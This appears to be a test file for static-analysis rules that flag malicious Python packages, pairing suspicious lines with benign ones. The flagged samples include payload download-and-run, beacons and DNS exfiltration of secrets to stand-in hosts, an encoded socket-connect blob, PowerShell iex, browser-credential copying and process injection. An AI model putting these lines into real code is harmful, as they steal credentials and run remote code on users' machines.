import os, subprocess, requests, urllib.request, platform, pyperclip
from setuptools import setup
from setuptools.command.install import install


def dropper():
    data = urllib.request.urlopen("http://198.51.100.7/payload").read()
    with open("/tmp/upd", "wb") as f:
        f.write(data)
    # ruleid: package.py.download-and-run
    os.chmod("/tmp/upd", 0o755)
    # ruleid: package.py.download-and-run
    subprocess.call(upd_path)
    # ok: package.py.download-and-run
    subprocess.run(["git", "--version"])
    # ok: package.py.download-and-run
    os.chmod(path, stat.S_IWRITE)
    # ruleid: package.py.download-and-run
    os.chmod(dropper, os.stat(dropper).st_mode | stat.S_IEXEC)


def beacon():
    # ruleid: package.py.env-to-network
    requests.post("https://collector.example/c", data={"u": os.getenv("USERNAME"), "h": platform.node()})
    # ok: package.py.env-to-network
    requests.get("https://api.example.com/v1/items", timeout=5)


def wallet():
    # ruleid: package.py.clipboard
    text = pyperclip.paste()
    # ok: package.py.clipboard
    text = "copy and paste"
    return text


def spy():
    from PIL import ImageGrab
    # ruleid: package.py.screen-or-keys
    img = ImageGrab.grab()
    # ok: package.py.screen-or-keys
    img = open_image("logo.png")
    return img


def hidden():
    # ruleid: package.py.hidden-process
    subprocess.Popen(["helper.exe"], creationflags=subprocess.CREATE_NO_WINDOW)
    # ok: package.py.hidden-process
    subprocess.run(["make"], check=True)


class PostInstall(install):
    def run(self):
        install.run(self)


setup(
    name="demo",
    # ruleid: package.py.install-command-override
    cmdclass={"install": PostInstall},
    # ok: package.py.install-command-override
    entry_points={"console_scripts": ["demo=demo:main"]},
    # (sdist runs where the maintainer packs the release, never where the package is installed)
    # ok: package.py.install-command-override
    cmdclass2={"sdist": CythonSdist},
)


def inject(pid, dll):
    # ruleid: package.py.process-injection
    addr = kernel32.VirtualAllocEx(pid, 0, len(dll), 0x3000, 0x40)
    # ok: package.py.process-injection
    addr = allocate(len(dll))
    return addr


def stego():
    from stegano import lsb
    # ruleid: package.py.steganography
    exec(lsb.reveal("cat.png"))
    # ok: package.py.steganography
    print(reveal_answer("quiz"))


def dns_leak():
    import socket
    token = os.getenv("AWS_SESSION_TOKEN")
    # ruleid: package.py.dns-exfiltration
    socket.gethostbyname(f"{token}.collector.example")
    # ok: package.py.dns-exfiltration
    socket.gethostbyname("pypi.org")


def reflect():
    # ruleid: package.py.reflective-exec
    vars(__builtins__)["eval"]("print(1)")
    # ok: package.py.reflective-exec
    print(vars(config)["name"])


# ruleid: package.py.obfuscated
OOO0O0OOOOO000oOo = __import__("\x7a\x6c\x69\x62")
# ok: package.py.obfuscated
ZLIB = __import__("zlib")


def decoded():
    # ruleid: package.py.decoded-exec
    exec(zlib_decode_payload(blob))
    # ok: package.py.decoded-exec
    exec(compile_template(source))


def stealer():
    import shutil, sqlite3
    # ruleid: package.py.browser-credentials
    shutil.copy(profile + "/Login Data", "/tmp/ld")
    # ok: package.py.browser-credentials
    shutil.copy("data/login.json", "/tmp/x")


class Gadget:
    def __reduce__(self):
        # ruleid: package.py.pickle-gadget
        return (os.system, ("id",))


class Plain:
    def __reduce__(self):
        # ok: package.py.pickle-gadget
        return (Plain, ())


def blob():
    exec(
        # ruleid: package.py.encoded-blob-exec
        "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk7IGltcG9ydCBzb2NrZXQ7IHMgPSBzb2NrZXQuc29ja2V0KCk7IHMuY29ubmVjdCgoJzEwLjAuMC4xJywgNDQ0NCkp"
    )
    # ok: package.py.encoded-blob-exec
    label = "short-text"


def temp_runner(filename):
    # ruleid: package.py.suspicious-command
    os.popen("start " + filename)
    # ruleid: package.py.suspicious-command
    os.popen("powershell -ep bypass -c iex", stderr=subprocess.PIPE)
    # ok: package.py.suspicious-command
    os.system("make -C docs html")


def snoop():
    # ruleid: package.py.sensitive-file-access
    users = open("/etc/passwd").read()
    # ok: package.py.sensitive-file-access
    notes = open("docs/passwords-policy.md").read()
    return users, notes
